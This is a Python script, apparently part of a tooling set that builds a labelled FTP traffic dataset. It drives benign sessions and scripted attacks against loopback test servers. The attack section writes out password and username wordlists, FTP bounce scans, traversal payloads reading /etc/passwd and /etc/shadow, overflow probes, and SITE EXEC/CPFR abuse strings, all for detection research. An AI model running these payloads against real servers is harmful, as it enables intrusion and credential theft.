#!/usr/bin/env python3
"""Scenario clients for scripts/capture-samples.sh: benign FTP sessions and attacks against the loopback
servers it starts, plus the labeller that turns the session log and the captures into samples/labels.csv.

    ftp_scenarios.py --work DIR --seed N run PHASE --sessions FILE.jsonl   (PHASE: benign attacks small ipv6)
    ftp_scenarios.py --work DIR --seed N label --sessions-dir D --captures-dir D --out SAMPLES

Every control connection a scenario opens is written to the session log (JSON lines) the moment it is
connected: scenario, class, server and, for Python clients, the exact client endpoint.  lftp and curl pick
their own ports, so each invocation gets a source address of its own, runs alone on it, and the labeller
takes every SYN from that address to that server inside the invocation's time window.

Randomness is seeded per session (seed, phase, session number), so the same seed gives the same choices
whatever order the threads run in; timing differs from run to run.
Only loopback addresses are used: the servers, the clients (127.0.1.x benign, 127.0.2.x attackers) and the
bounce target 127.0.0.99, where a listener of our own waits.
"""
from __future__ import annotations

import argparse
import csv
import ftplib
import io
import json
import os
import random
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
from concurrent.futures import ThreadPoolExecutor

SERVERS = {"vsftpd": ("127.0.0.2", 21), "proftpd": ("127.0.0.3", 2121), "pure-ftpd": ("127.0.0.4", 2221)}
SERVERS6 = {"vsftpd": ("::1", 21), "pure-ftpd": ("::1", 2221)}
SERVER_NAMES = list(SERVERS)
# Keep in step with USERS in capture-samples.sh.
USERS = {"alice": "wonderland7", "bob": "builder42", "carol": "xmas1999", "dave": "d4v3pass"}
USER_FILES = ["notes.txt", "report.csv", "projects/plan.md", "projects/data.bin", "backup/old.tar"]
ANON_FILES = ["pub/README", "pub/welcome.msg", "pub/release-1.0.tar.gz", "pub/release-1.1.tar.gz",
              "pub/docs/manual.txt", "pub/docs/faq.txt", "pub/SHA256SUMS"]
BOUNCE_ADDR = "127.0.0.99"
BOUNCE_OPEN_PORTS = [8080, 2525]          # our listener accepts here; other probed ports are closed
BENIGN_NET = "127.0.1."                   # .10-.99 Python clients, .200-.254 lftp/curl (one invocation each)
ATTACK_NET = "127.0.2."
CLIENT_TIMEOUT = 30.0


def log(msg: str) -> None:
    print(f"{time.strftime('%H:%M:%S', time.gmtime())} ftp_scenarios: {msg}", file=sys.stderr, flush=True)


# ------------------------------------------------------------------------------------------ session log
class SessionLog:
    """Appends one JSON line per control connection; thread-safe."""

    def __init__(self, path: str):
        self.lock = threading.Lock()
        self.f = open(path, "w", encoding="utf-8")
        self.count = 0

    def write(self, row: dict) -> None:
        with self.lock:
            self.f.write(json.dumps(row, sort_keys=True) + "\n")
            self.f.flush()
            self.count += 1

    def close(self) -> None:
        self.f.close()


class Ctx:
    """What one session is: class, scenario, target server; records the connections it makes."""

    def __init__(self, slog: SessionLog, cls: str, scenario: str, server: str, addr: tuple, src: str,
                 rng: random.Random, sid: str):
        self.slog, self.cls, self.scenario, self.server, self.addr = slog, cls, scenario, server, addr
        self.src, self.rng, self.sid = src, rng, sid

    def record(self, sock: socket.socket | None, t0: float | None = None, t1: float | None = None) -> None:
        row = {"class": self.cls, "scenario": self.scenario, "server": self.server, "sid": self.sid,
               "server_ip": self.addr[0], "server_port": self.addr[1], "client_ip": self.src}
        if sock is not None:
            row["client_port"] = sock.getsockname()[1]
            row["t"] = time.time()
        else:  # an external tool: every connection from src to the server within [t0, t1]
            row["client_port"] = None
            row["t0"], row["t1"] = t0, t1
        self.slog.write(row)

    def family(self) -> int:
        return socket.AF_INET6 if ":" in self.addr[0] else socket.AF_INET


# ------------------------------------------------------------------------------------------ clients
_used_ports: set = set()
_used_lock = threading.Lock()


def bound_socket(family: int, src: str) -> socket.socket:
    """A TCP socket bound to src on a port this run has not used before from src.  The kernel may hand out a
    port again once its connection is gone (at once after an RST), and labels are keyed by endpoints."""
    held = []
    try:
        while True:
            s = socket.socket(family, socket.SOCK_STREAM)
            s.bind((src, 0))
            key = (src, s.getsockname()[1])
            with _used_lock:
                if key not in _used_ports:
                    _used_ports.add(key)
                    return s
            held.append(s)  # keep it bound so the next bind gets another port
    finally:
        for h in held:
            h.close()


def connect_from(ctx: "Ctx", timeout: float) -> socket.socket:
    """A control connection from ctx.src to the server, recorded in the session log (even if it fails)."""
    sock = bound_socket(ctx.family(), ctx.src)
    sock.settimeout(timeout)
    try:
        sock.connect(ctx.addr)
    finally:
        ctx.record(sock)
    return sock


class Client(ftplib.FTP):
    """ftplib with the data-connection mode chosen per session (PASV, EPSV, PORT, EPRT), a bound source
    address, and every control connection recorded."""

    def __init__(self, ctx: Ctx, mode: str = "pasv", timeout: float = CLIENT_TIMEOUT):
        super().__init__(timeout=timeout, encoding="latin-1")  # listings and ASCII-mode RETR of any file
        self.ctx, self.mode = ctx, mode
        self.set_pasv(mode in ("pasv", "epsv"))

    def open(self) -> str:
        """ftplib's connect(), on a socket from connect_from()."""
        self.host, self.port = self.ctx.addr
        self.source_address = (self.ctx.src, 0)  # ftplib binds passive-mode data connections here
        self.sock = connect_from(self.ctx, self.timeout)
        self.af = self.sock.family
        self.file = self.sock.makefile("r", encoding=self.encoding)
        self.welcome = self.getresp()
        return self.welcome

    def makepasv(self):
        if self.mode == "epsv" or self.af == socket.AF_INET6:
            return ftplib.parse229(self.sendcmd("EPSV"), self.sock.getpeername())
        return super().makepasv()

    def makeport(self):
        sock = socket.create_server((self.ctx.src, 0), family=self.af, backlog=1)
        port = sock.getsockname()[1]
        host = self.sock.getsockname()[0]
        if self.mode == "eprt" or self.af == socket.AF_INET6:
            self.sendeprt(host, port)
        else:
            self.sendport(host, port)
        if self.timeout is not None:
            sock.settimeout(self.timeout)
        return sock

    def safe_quit(self) -> None:
        try:
            self.quit()
        except (OSError, EOFError, ftplib.Error):
            pass
        finally:
            self.close()


class Raw:
    """A bare control connection for attacks: send any bytes, read whatever replies come."""

    def __init__(self, ctx: Ctx, timeout: float = 10.0):
        self.ctx = ctx
        self.buf = b""
        self.closed = False
        self.sock = connect_from(ctx, timeout)

    def reply(self, timeout: float | None = None) -> str:
        """One complete reply (multi-line aware); '' when the server closed or stayed silent."""
        if timeout is not None:
            self.sock.settimeout(timeout)
        lines = []
        code = None
        while True:
            while b"\n" not in self.buf:
                try:
                    data = self.sock.recv(65536)
                except (socket.timeout, OSError):
                    data = b""
                if not data:
                    self.closed = True
                    return "\n".join(lines)
                self.buf += data
            line, self.buf = self.buf.split(b"\n", 1)
            text = line.decode("latin-1").rstrip("\r")
            lines.append(text)
            if code is None:
                if len(text) >= 4 and text[:3].isdigit() and text[3] == "-":
                    code = text[:3]
                    continue
                return "\n".join(lines)
            if text.startswith(code + " "):
                return "\n".join(lines)

    def send(self, data: bytes | str) -> None:
        if isinstance(data, str):
            data = data.encode("latin-1")
        try:
            self.sock.sendall(data)
        except OSError:
            self.closed = True

    def cmd(self, line: bytes | str, timeout: float | None = None) -> str:
        if isinstance(line, str):
            line = line.encode("latin-1")
        self.send(line + b"\r\n")
        return "" if self.closed else self.reply(timeout)

    def close(self, rst: bool = False) -> None:
        if rst:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        try:
            self.sock.close()
        except OSError:
            pass


def code_of(reply: str) -> str:
    return reply[:3] if reply else ""


# ------------------------------------------------------------------------------------------ benign
TRANSFER_MODES = ["pasv", "pasv", "epsv", "port", "eprt"]


def server_feats(c: Client) -> set[str]:
    try:
        resp = c.sendcmd("FEAT")
    except ftplib.Error:
        return set()
    return {line.strip().split(" ")[0].upper() for line in resp.splitlines()[1:-1]}


def login_user(c: Client, rng: random.Random) -> str:
    user = rng.choice(list(USERS))
    c.login(user, USERS[user])
    return user


def login_any(c: Client, rng: random.Random, anon_share: float = 0.35) -> str:
    if rng.random() < anon_share:
        c.login("anonymous", rng.choice(["anonymous@", "guest@example.org", "mozilla@example.com", "ftp@"]))
        return "anonymous"
    return login_user(c, rng)


def listing(c: Client, rng: random.Random, feats: set[str], path: str | None = None) -> None:
    kinds = ["LIST", "LIST", "NLST"] + (["MLSD"] if "MLSD" in feats or "MLST" in feats else [])
    kind = rng.choice(kinds)
    sink: list[str] = []
    if kind == "MLSD":
        c.retrlines("MLSD" + (f" {path}" if path else ""), sink.append)
    elif kind == "NLST":
        c.retrlines("NLST" + (f" {path}" if path else ""), sink.append)
    else:
        c.retrlines("LIST" + (f" {path}" if path else ""), sink.append)


def download(c: Client, rng: random.Random, files: list[str], feats: set[str]) -> None:
    for name in rng.sample(files, rng.randint(1, min(3, len(files)))):
        if rng.random() < 0.5:
            c.sendcmd("TYPE I")
            if "SIZE" in feats and rng.random() < 0.6:
                c.sendcmd(f"SIZE {name}")
            if "MDTM" in feats and rng.random() < 0.4:
                c.sendcmd(f"MDTM {name}")
            c.retrbinary(f"RETR {name}", lambda b: None)
        else:
            c.retrlines(f"RETR {name}", lambda s: None)


def small_payload(rng: random.Random) -> bytes:
    n = rng.randint(40, 3000)
    if rng.random() < 0.5:
        return bytes(rng.randrange(256) for _ in range(n))
    words = ["log", "entry", "status", "ok", "value", "the", "data", "upload"]
    return (" ".join(rng.choice(words) for _ in range(n // 5)) + "\n").encode()


def b_anon_browse(ctx: Ctx, c: Client) -> None:
    rng = ctx.rng
    feats = server_feats(c) if rng.random() < 0.5 else set()
    c.login("anonymous", rng.choice(["anonymous@", "guest@example.org", "ftp@", "user@localhost"]))
    if rng.random() < 0.5:
        c.pwd()
    c.cwd("pub")
    listing(c, rng, feats)
    if rng.random() < 0.5:
        c.cwd("docs")
        listing(c, rng, feats)
        download(c, rng, ["manual.txt", "faq.txt"], feats)
        c.sendcmd("CDUP")
    if rng.random() < 0.7:
        download(c, rng, [f.split("/", 1)[1] for f in ANON_FILES[:4]], feats)


def b_user_download(ctx: Ctx, c: Client) -> None:
    rng = ctx.rng
    feats = server_feats(c) if rng.random() < 0.6 else set()
    login_user(c, rng)
    if rng.random() < 0.5:
        c.sendcmd("SYST")
    if rng.random() < 0.6:
        listing(c, rng, feats)
    if rng.random() < 0.4:
        c.cwd("projects")
        listing(c, rng, feats)
        download(c, rng, ["plan.md", "data.bin"], feats)
        c.cwd("..") if rng.random() < 0.5 else c.sendcmd("CDUP")
    download(c, rng, ["notes.txt", "report.csv", "backup/old.tar"], feats)


def b_user_upload(ctx: Ctx, c: Client) -> None:
    rng = ctx.rng
    feats = server_feats(c) if rng.random() < 0.4 else set()
    login_user(c, rng)
    c.sendcmd("TYPE I")
    names = []
    for i in range(rng.randint(1, 3)):
        name = f"up-{ctx.sid}-{i}.{rng.choice(['txt', 'log', 'dat'])}"
        c.storbinary(f"STOR {name}", io.BytesIO(small_payload(rng)))
        names.append(name)
    if rng.random() < 0.3:
        c.storbinary(f"APPE {names[0]}", io.BytesIO(small_payload(rng)))
    if rng.random() < 0.5:
        listing(c, rng, feats)
    if "SIZE" in feats or rng.random() < 0.3:
        c.sendcmd("TYPE I")  # ProFTPD refuses SIZE in ASCII mode
        c.sendcmd(f"SIZE {names[-1]}")
    for name in names:
        if rng.random() < 0.8:
            c.delete(name)


def b_dir_work(ctx: Ctx, c: Client) -> None:
    rng = ctx.rng
    login_user(c, rng)
    c.pwd()
    d = f"dir-{ctx.sid}"
    c.mkd(d)
    c.cwd(d)
    c.pwd()
    files = []
    for i in range(rng.randint(1, 2)):
        name = f"f{i}.txt"
        c.storbinary(f"STOR {name}", io.BytesIO(small_payload(rng)))
        files.append(name)
    if rng.random() < 0.7:
        c.rename(files[0], "renamed.txt")
        files[0] = "renamed.txt"
    if rng.random() < 0.5:
        c.retrlines("LIST", lambda s: None)
    if rng.random() < 0.3:
        c.mkd("sub")
        c.rmd("sub")
    for name in files:
        c.delete(name)
    c.sendcmd("CDUP") if rng.random() < 0.6 else c.cwd("..")
    c.rmd(d)
    if rng.random() < 0.4:
        c.pwd()


def b_failed_login(ctx: Ctx, c: Client) -> None:
    """A user who mistypes: one or two failures (wrong password, wrong or misspelt name), then success."""
    rng = ctx.rng
    user = rng.choice(list(USERS))
    for _ in range(rng.choice([1, 1, 1, 2])):
        if rng.random() < 0.7:
            bad_user, bad_pass = user, USERS[user][:-1] + rng.choice("xyz01")
        else:
            bad_user, bad_pass = user + rng.choice(["1", "s", "_"]), USERS[user]
        try:
            c.login(bad_user, bad_pass)
        except ftplib.error_perm:
            pass
    c.login(user, USERS[user])
    if rng.random() < 0.7:
        c.retrlines(rng.choice(["LIST", "NLST"]), lambda s: None)
    if rng.random() < 0.5:
        download(c, rng, ["notes.txt", "report.csv"], set())


def b_feature_probe(ctx: Ctx, c: Client) -> None:
    rng = ctx.rng
    pre = rng.sample(["FEAT", "SYST", "HELP"], rng.randint(0, 2))
    for cmd in pre:  # before login, as many clients do
        try:
            c.sendcmd(cmd)
        except ftplib.Error:
            pass
    login_any(c, rng, 0.3)
    probes = ["FEAT", "SYST", "HELP", "OPTS UTF8 ON", "STAT", "PWD", "TYPE I", "TYPE A", "MODE S", "STRU F"]
    for cmd in rng.sample(probes, rng.randint(3, 7)):
        try:
            c.sendcmd(cmd)
        except ftplib.Error:
            pass
    for name in rng.sample(["notes.txt", "report.csv", "pub/README", "pub/SHA256SUMS"], 2):
        for cmd in rng.sample(["SIZE", "MDTM"], rng.randint(1, 2)):
            try:
                c.sendcmd(f"{cmd} {name}")
            except ftplib.Error:
                pass
    if rng.random() < 0.3:
        try:
            c.sendcmd(f"STAT {rng.choice(['.', 'pub', 'projects'])}")
        except ftplib.Error:
            pass


def b_keepalive(ctx: Ctx, c: Client) -> None:
    rng = ctx.rng
    login_any(c, rng, 0.3)
    c.retrlines("LIST", lambda s: None)
    for _ in range(rng.randint(2, 5)):
        time.sleep(rng.uniform(0.3, 1.5))
        c.voidcmd("NOOP")
    if rng.random() < 0.6:
        try:
            c.retrbinary(f"RETR {rng.choice(['notes.txt', 'pub/README'])}", lambda b: None)
        except ftplib.error_perm:
            pass


def b_mixed(ctx: Ctx, c: Client) -> None:
    """A user wandering about: a random walk over everyday operations."""
    rng = ctx.rng
    feats = server_feats(c) if rng.random() < 0.5 else set()
    who = login_any(c, rng, 0.25)
    files = [f.split("/", 1)[1] for f in ANON_FILES] if who == "anonymous" else ["notes.txt", "report.csv"]
    if who == "anonymous":
        c.cwd("pub")
    made = []
    for step in range(rng.randint(3, 12)):
        op = rng.choice(["list", "list", "get", "pwd", "noop", "cwd", "size", "type", "put", "mkd", "stat"])
        try:
            if op == "list":
                listing(c, rng, feats)
            elif op == "get":
                download(c, rng, files, feats)
            elif op == "pwd":
                c.pwd()
            elif op == "noop":
                time.sleep(rng.uniform(0.1, 0.8))
                c.voidcmd("NOOP")
            elif op == "cwd":
                sub = "docs" if who == "anonymous" else rng.choice(["projects", "backup"])
                c.cwd(sub)
                listing(c, rng, feats)
                c.sendcmd("CDUP")
            elif op == "size":
                c.sendcmd("TYPE I")
                c.sendcmd(f"{rng.choice(['SIZE', 'MDTM'])} {rng.choice(files)}")
            elif op == "type":
                c.sendcmd(rng.choice(["TYPE A", "TYPE I"]))
            elif op == "stat":
                c.sendcmd("STAT")
            elif op == "put" and who != "anonymous":
                name = f"mix-{ctx.sid}-{step}.txt"
                c.storbinary(f"STOR {name}", io.BytesIO(small_payload(rng)))
                made.append(name)
            elif op == "mkd" and who != "anonymous":
                name = f"mixdir-{ctx.sid}-{step}"
                c.mkd(name)
                c.rmd(name)
        except ftplib.error_perm:
            pass  # a missing file or a refused command is part of everyday use
    for name in made:
        c.delete(name)


BENIGN_KINDS = {  # name: (function, weight)
    "anon-browse": (b_anon_browse, 3),
    "user-download": (b_user_download, 3),
    "user-upload": (b_user_upload, 2),
    "dir-work": (b_dir_work, 2),
    "failed-then-login": (b_failed_login, 2),
    "feature-probe": (b_feature_probe, 2),
    "keepalive": (b_keepalive, 1),
    "mixed": (b_mixed, 3),
}


def run_ftplib_session(ctx: Ctx, fn) -> None:
    mode = ctx.rng.choice(TRANSFER_MODES)
    c = Client(ctx, mode)
    try:
        c.open()
        fn(ctx, c)
        if ctx.rng.random() < 0.1:
            c.close()  # some clients just hang up without QUIT
        else:
            c.safe_quit()
    except Exception as e:  # noqa: BLE001 - a failed session is logged; the capture goes on
        log(f"{ctx.scenario} {ctx.server} {ctx.sid} ({mode}): {type(e).__name__}: {e}")
        c.close()


# --- lftp and curl: one source address per invocation, invocations one at a time
def tool_session(ctx: Ctx, argv: list[str], timeout: float = 40) -> None:
    t0 = time.time()
    try:
        r = subprocess.run(argv, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE,
                           timeout=timeout, text=True)
        if r.returncode != 0:
            log(f"{ctx.scenario} {ctx.server} {ctx.sid}: {argv[0]} exit {r.returncode}: {r.stderr.strip()[:200]}")
    except subprocess.TimeoutExpired:
        log(f"{ctx.scenario} {ctx.server} {ctx.sid}: {argv[0]} timed out")
    time.sleep(0.3)  # let the last FIN reach the capture inside the window
    ctx.record(None, t0 - 0.05, time.time())


def lftp_session(ctx: Ctx, tmp: str) -> None:
    rng = ctx.rng
    host, port = ctx.addr
    user = rng.choice(["anonymous"] + list(USERS))
    cred = f"anonymous,ftp@example.org" if user == "anonymous" else f"{user},{USERS[user]}"
    settings = [f"set net:socket-bind-ipv{'6' if ':' in host else '4'} {ctx.src}",
                "set net:timeout 10", "set net:max-retries 1", "set net:reconnect-interval-base 1",
                "set cmd:fail-exit no", "set xfer:clobber on",
                f"set ftp:passive-mode {'off' if rng.random() < 0.3 else 'on'}",
                f"set ftp:ssl-allow {'yes' if rng.random() < 0.3 else 'no'}"]
    if ":" in host:
        settings.append("set ftp:passive-mode on")
    cmds = []
    if user == "anonymous":
        cmds.append("cd pub")
        cmds.append(rng.choice(["ls", "cls -l", "nlist"]))
        if rng.random() < 0.5:
            cmds.append(f"mirror docs {tmp}/mirror-{ctx.sid}")
        else:
            cmds.append(f"get {rng.choice(['README', 'SHA256SUMS', 'release-1.0.tar.gz'])} -o {tmp}/")
    else:
        cmds.append(rng.choice(["ls", "cls -l", "nlist", "ls projects"]))
        kind = rng.random()
        if kind < 0.4:
            cmds.append(f"get {rng.choice(USER_FILES)} -o {tmp}/")
        elif kind < 0.7:
            local = os.path.join(tmp, f"lftp-{ctx.sid}.txt")
            with open(local, "wb") as f:
                f.write(small_payload(rng))
            cmds += [f"put {local}", f"rm lftp-{ctx.sid}.txt"]
        else:
            cmds += [f"mkdir lftp-{ctx.sid}", f"cd lftp-{ctx.sid}", "pwd", "cd ..", f"rmdir lftp-{ctx.sid}"]
    script = "; ".join(settings + [f"open -u {cred} -p {port} {host}"] + cmds + ["bye"])
    tool_session(ctx, ["lftp", "-c", script])


def curl_session(ctx: Ctx, tmp: str) -> None:
    rng = ctx.rng
    host, port = ctx.addr
    url = f"ftp://{('[' + host + ']') if ':' in host else host}:{port}"
    user = rng.choice(["anonymous"] + list(USERS))
    argv = ["curl", "-sS", "--interface", ctx.src, "--connect-timeout", "10", "--max-time", "30"]
    if user != "anonymous":
        argv += ["-u", f"{user}:{USERS[user]}"]
    if rng.random() < 0.35:
        argv += ["--ftp-port", ctx.src]  # active mode (EPRT, then PORT when refused)
    elif rng.random() < 0.3:
        argv += ["--disable-epsv"]
    kind = rng.random()
    if user == "anonymous":
        if kind < 0.5:
            argv += ["-o", os.devnull, f"{url}/{rng.choice(ANON_FILES)}"]
        else:
            argv += (["--list-only"] if rng.random() < 0.5 else []) + ["-o", os.devnull, f"{url}/pub/"]
    elif kind < 0.4:
        argv += ["-o", os.devnull, f"{url}/{rng.choice(USER_FILES)}"]
    elif kind < 0.7:
        local = os.path.join(tmp, f"curl-{ctx.sid}.txt")
        with open(local, "wb") as f:
            f.write(small_payload(rng))
        argv += ["-T", local, "-Q", f"-DELE curl-{ctx.sid}.txt", f"{url}/"]
    else:
        argv += ["-Q", f"MKD curl-{ctx.sid}", "-Q", f"RMD curl-{ctx.sid}", "-o", os.devnull,
                 "--list-only", f"{url}/"]
    tool_session(ctx, argv)


# ------------------------------------------------------------------------------------------ attacks
PASSWORDS = ["123456", "password", "admin", "root", "qwerty", "letmein", "ftp", "test", "12345678", "welcome",
             "changeme", "P@ssw0rd", "toor", "abc123", "iloveyou", "monkey", "dragon", "master", "sunshine",
             "princess", "football", "shadow", "111111", "secret", "passw0rd", "trustno1", "ninja", "azerty"]
USERNAMES = ["admin", "root", "administrator", "test", "guest", "user", "ftp", "ftpuser", "oracle", "postgres",
             "mysql", "www", "www-data", "backup", "operator", "support", "info", "web", "upload", "deploy",
             "git", "jenkins", "ubuntu", "pi", "nagios", "alice", "bob", "carol", "dave", "tomcat", "demo",
             "sales", "office", "manager", "anonymous", "service", "apache", "nobody", "daemon", "sysadmin"]


def a_bruteforce_in_session(ctx: Ctx) -> None:
    """Many USER/PASS guesses in one connection, until the server hangs up (or 40 guesses)."""
    rng = ctx.rng
    user = rng.choice(["alice", "bob", "admin", "root"])
    words = rng.sample(PASSWORDS, len(PASSWORDS))
    r = Raw(ctx, timeout=60)
    r.reply()
    for guess in (words * 2)[:40]:
        if code_of(r.cmd(f"USER {user}")) not in ("331", "230"):
            break
        if r.closed or code_of(r.cmd(f"PASS {guess}")) != "530" or r.closed:
            break
    if not r.closed:
        r.cmd("QUIT", timeout=5)
    r.close()


def a_bruteforce_across(ctx: Ctx) -> None:
    """One of many short sessions from one address: one or two guesses, then QUIT or just close."""
    rng = ctx.rng
    user = rng.choice(["alice", "bob", "carol", "admin"])
    r = Raw(ctx, timeout=30)
    r.reply()
    for _ in range(rng.choice([1, 1, 2])):
        r.cmd(f"USER {user}")
        if r.closed or code_of(r.cmd(f"PASS {rng.choice(PASSWORDS)}")) != "530" or r.closed:
            break
    if not r.closed and rng.random() < 0.6:
        r.cmd("QUIT", timeout=5)
    r.close()


def a_user_enum(ctx: Ctx) -> None:
    """Many user names in one session, most with USER alone, some followed by a single PASS."""
    rng = ctx.rng
    r = Raw(ctx, timeout=30)
    r.reply()
    names = rng.sample(USERNAMES, rng.randint(20, 35))
    with_pass = set(rng.sample(names, 2))
    for name in names:
        r.cmd(f"USER {name}")
        if r.closed:
            break
        if name in with_pass and ctx.server != "pure-ftpd":  # Pure-FTPd's growing delays: keep the run short
            r.cmd("PASS guess")
        if r.closed:
            break
    if not r.closed:
        r.cmd("QUIT", timeout=5)
    r.close()


def _login_raw(r: Raw, rng: random.Random) -> bool:
    if rng.random() < 0.5:
        r.cmd("USER anonymous")
        return code_of(r.cmd("PASS scanner@example.org")) == "230"
    user = rng.choice(list(USERS))
    r.cmd(f"USER {user}")
    return code_of(r.cmd(f"PASS {USERS[user]}")) == "230"


def _bounce(ctx: Ctx, eprt: bool) -> None:
    """FTP bounce: PORT/EPRT naming a third host (our own listener), then LIST/RETR so the server connects
    there; several target ports, like a bounce port scan."""
    rng = ctx.rng
    r = Raw(ctx, timeout=20)
    r.reply()
    _login_raw(r, rng)
    ports = rng.sample([22, 25, 80, 443, 3306, 6379, 8000, 8443, 9000, 5432], rng.randint(2, 5))
    ports += rng.sample(BOUNCE_OPEN_PORTS, rng.randint(1, 2))
    rng.shuffle(ports)
    for p in ports:
        if eprt:
            resp = r.cmd(f"EPRT |1|{BOUNCE_ADDR}|{p}|")
        else:
            a = BOUNCE_ADDR.replace(".", ",")
            resp = r.cmd(f"PORT {a},{p >> 8},{p & 255}")
        if r.closed:
            break
        if code_of(resp) == "200":
            resp = r.cmd(rng.choice(["LIST", "NLST", "RETR pub/README", "RETR notes.txt"]), timeout=15)
            if resp.startswith("150") or resp.startswith("125"):
                r.reply(timeout=15)
        if r.closed:
            break
    if not r.closed:
        r.cmd("QUIT", timeout=5)
    r.close()


def a_bounce_port(ctx: Ctx) -> None:
    _bounce(ctx, eprt=False)


def a_bounce_eprt(ctx: Ctx) -> None:
    _bounce(ctx, eprt=True)


TRAVERSALS = ["CWD ../../..", "CWD ../../../../etc", "RETR ../../etc/passwd", "RETR ../../../../etc/shadow",
              "CWD /etc", "RETR /etc/passwd", "SIZE ../../../etc/passwd", "LIST ../../../",
              "NLST ../../../../root", "CWD ..\\..\\..\\windows", "RETR ..%2f..%2f..%2fetc%2fpasswd",
              "MDTM ../../../etc/hosts", "CWD pub/../../../../tmp", "RETR pub/../../../etc/group",
              "STOR ../../../tmp/owned.txt", "DELE ../../../etc/motd"]


def a_traversal(ctx: Ctx) -> None:
    rng = ctx.rng
    r = Raw(ctx, timeout=20)
    r.reply()
    _login_raw(r, rng)
    r.cmd("TYPE I")
    for line in rng.sample(TRAVERSALS, rng.randint(4, 9)):
        verb = line.split(" ", 1)[0]
        if verb in ("RETR", "LIST", "NLST", "STOR"):
            resp = r.cmd("PASV")
            if code_of(resp) == "227":
                nums = resp[resp.index("(") + 1:resp.index(")")].split(",")
                port = int(nums[4]) * 256 + int(nums[5])
                try:
                    data = socket.create_connection((ctx.addr[0], port), 5, source_address=(ctx.src, 0))
                except OSError:
                    data = None
                resp = r.cmd(line, timeout=10)
                if data is not None:
                    try:
                        if verb == "STOR" and code_of(resp) in ("150", "125"):
                            data.sendall(b"owned\n")
                        data.settimeout(3)
                        if verb != "STOR":
                            while data.recv(65536):
                                pass
                    except OSError:
                        pass
                    data.close()
                if code_of(resp) in ("150", "125"):
                    r.reply(timeout=10)
                continue
        r.cmd(line)
        if r.closed:
            break
    if not r.closed:
        r.cmd("QUIT", timeout=5)
    r.close()


def a_overlong(ctx: Ctx) -> None:
    """Arguments of 2-10 KB (buffer overflow probes): USER, PASS, CWD, MKD, SITE, RETR."""
    rng = ctx.rng
    r = Raw(ctx, timeout=20)
    r.reply()
    fill = rng.choice(["A", "B", "%n", "../", "\x90", "%s"])
    if rng.random() < 0.4:
        r.cmd("USER " + fill * (rng.randint(2048, 10240) // len(fill)))
    if rng.random() < 0.5 and not r.closed:
        _login_raw(r, rng)
    for verb in rng.sample(["CWD", "MKD", "RETR", "SITE", "STAT", "SIZE", "DELE", "RNFR"], rng.randint(2, 4)):
        if r.closed:
            break
        r.cmd(f"{verb} " + fill * (rng.randint(2048, 10240) // len(fill)))
    if not r.closed:
        r.cmd("QUIT", timeout=5)
    r.close()


SITE_ABUSE = ["SITE EXEC /bin/sh -c id", "SITE EXEC cat /etc/passwd", "SITE CHMOD 777 /etc/passwd",
              "SITE CHMOD 4755 /bin/bash", "SITE CPFR /etc/passwd", "SITE CPTO /tmp/ftp-servers/anon/pub/passwd",
              "SITE CPFR /etc/shadow", "SITE CPTO pwned.txt", "SITE UMASK 000", "SITE IDLE 99999",
              "SITE HELP", "SITE SYMLINK /etc/shadow shadow", "SITE UTIME 20200101000000 /etc/passwd",
              "SITE MKDIR ../../../tmp/x", "SITE ZONE", "SITE NEWER 19700101", "SITE INDEX passwd"]


def a_site_abuse(ctx: Ctx) -> None:
    rng = ctx.rng
    r = Raw(ctx, timeout=20)
    r.reply()
    if rng.random() < 0.25:  # SITE before logging in (CVE-2015-3306-style CPFR/CPTO)
        for line in rng.sample(SITE_ABUSE[:8], 2):
            r.cmd(line)
    if not r.closed:
        _login_raw(r, rng)
    for line in rng.sample(SITE_ABUSE, rng.randint(3, 7)):
        if r.closed:
            break
        r.cmd(line)
    if not r.closed:
        r.cmd("QUIT", timeout=5)
    r.close()


PRE_LOGIN = ["LIST", "NLST", "RETR /etc/passwd", "STOR x.txt", "CWD /", "PWD", "PASV", "EPSV",
             "PORT 127,0,0,1,4,1", "MKD test", "DELE notes.txt", "SIZE notes.txt", "RNFR notes.txt", "STAT /",
             "CDUP", "TYPE I", "MLSD", "RMD pub", "APPE a.txt", "SITE CHMOD 777 /"]


def a_pre_login(ctx: Ctx) -> None:
    rng = ctx.rng
    r = Raw(ctx, timeout=20)
    r.reply()
    for line in rng.sample(PRE_LOGIN, rng.randint(4, 10)):
        r.cmd(line)
        if r.closed:
            break
    if not r.closed and rng.random() < 0.7:
        r.cmd("QUIT", timeout=5)
    r.close()


GARBAGE_WORDS = ["HELLO", "GET / HTTP/1.1", "EHLO attacker", "SELECT * FROM users", "xyzzy", "AAAA", "help me",
                 "OPEN", "LOGIN root", "whoami", "\x16\x03\x01\x00\xa5\x01", "SSH-2.0-OpenSSH_8.9"]


def a_garbage(ctx: Ctx) -> None:
    rng = ctx.rng
    r = Raw(ctx, timeout=15)
    r.reply()
    if rng.random() < 0.3:
        _login_raw(r, rng)
    for _ in range(rng.randint(4, 12)):
        if r.closed:
            break
        kind = rng.random()
        if kind < 0.4:
            line = bytes(rng.randrange(256) for _ in range(rng.randint(3, 60))).replace(b"\n", b"")
        elif kind < 0.7:
            line = "".join(rng.choice("abcdefghijklmnopqrstuvwxyzQWERTY") for _ in range(rng.randint(3, 12)))
            line = line.encode()
        else:
            line = rng.choice(GARBAGE_WORDS).encode("latin-1")
        r.cmd(line, timeout=5)
    if not r.closed and rng.random() < 0.5:
        r.cmd("QUIT", timeout=5)
    r.close()


def a_anon_upload(ctx: Ctx) -> None:
    rng = ctx.rng
    r = Raw(ctx, timeout=20)
    r.reply()
    r.cmd("USER anonymous")
    r.cmd(f"PASS {rng.choice(['a@b.c', 'warez@', 'x@x'])}")
    r.cmd("TYPE I")
    for target in rng.sample(["pub", "incoming", "/", "pub/docs"], rng.randint(1, 3)):
        r.cmd(f"CWD /{target.strip('/')}" if target != "/" else "CWD /")
        for cmd in rng.sample(["STOR", "STOR", "APPE", "STOU", "MKD"], rng.randint(1, 3)):
            name = rng.choice(["warez.zip", "0day.rar", "shell.php", "x.exe", ".hidden", "movie.avi"])
            if cmd == "MKD":
                r.cmd(f"MKD {rng.choice(['_warez', '.x', 'tmp'])}")
                continue
            resp = r.cmd("PASV")
            data = None
            if code_of(resp) == "227":
                nums = resp[resp.index("(") + 1:resp.index(")")].split(",")
                try:
                    data = socket.create_connection((ctx.addr[0], int(nums[4]) * 256 + int(nums[5])), 5,
                                                    source_address=(ctx.src, 0))
                except OSError:
                    data = None
